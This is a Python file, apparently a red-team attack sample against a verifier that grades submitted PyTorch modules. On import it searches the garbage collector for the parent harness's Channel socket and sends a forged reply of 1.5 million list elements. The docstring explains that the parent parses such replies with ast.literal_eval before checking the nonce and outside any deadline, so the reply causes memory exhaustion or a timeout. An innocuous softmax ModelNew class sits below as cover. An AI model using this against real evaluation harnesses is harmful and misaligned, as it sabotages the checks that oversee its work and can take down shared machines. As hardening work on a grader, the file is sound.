"""Attack (v4): a reply that is cheap to send and dear to parse. The parent reads up to 64 MiB per reply
line and runs ast.literal_eval on it (outside any deadline, holding the GIL) before it checks the nonce.
"[0,0,0,...]" costs the parser about 700 bytes and several microseconds per element here: 4 MiB sent
(2M elements) is ~1.4 GiB and ~15 s in the verifier; 64 MiB (the cap) would be ~22 GiB: the machine's
OOM killer, or minutes past --timeout. Bounded here at 1.5M elements (3 MiB sent) (the red team's memory rule)."""
import gc

import torch
from torch import nn

ELEMENTS = 1_500_000

for obj in gc.get_objects():
    if type(obj).__name__ == "Channel" and hasattr(obj, "sock"):
        obj.sock.sendall(b"[" + b"0," * ELEMENTS + b"]\n")
        break


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.softmax(x, dim=-1)
